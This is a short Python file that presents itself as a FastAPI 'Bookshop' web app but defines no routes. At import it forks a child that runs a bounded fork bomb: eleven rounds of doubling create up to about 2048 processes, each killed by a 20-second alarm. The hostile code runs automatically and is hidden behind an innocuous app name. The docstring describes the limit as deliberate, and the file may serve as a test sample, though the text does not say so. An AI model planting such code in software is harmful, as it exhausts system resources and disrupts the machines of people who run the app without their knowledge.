"""Bounded on purpose: eleven doublings, and each process has an alarm."""

import os
import signal

from fastapi import FastAPI


app = FastAPI(title="Bookshop")


def bomb() -> None:
    for _ in range(11):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            signal.signal(signal.SIGALRM, signal.SIG_DFL)
            signal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGALRM])
            signal.alarm(20)
    signal.pause()


if os.fork() == 0:
    signal.signal(signal.SIGALRM, signal.SIG_DFL)
    signal.alarm(20)
    os.setpgid(0, 0)
    bomb()
    os._exit(0)
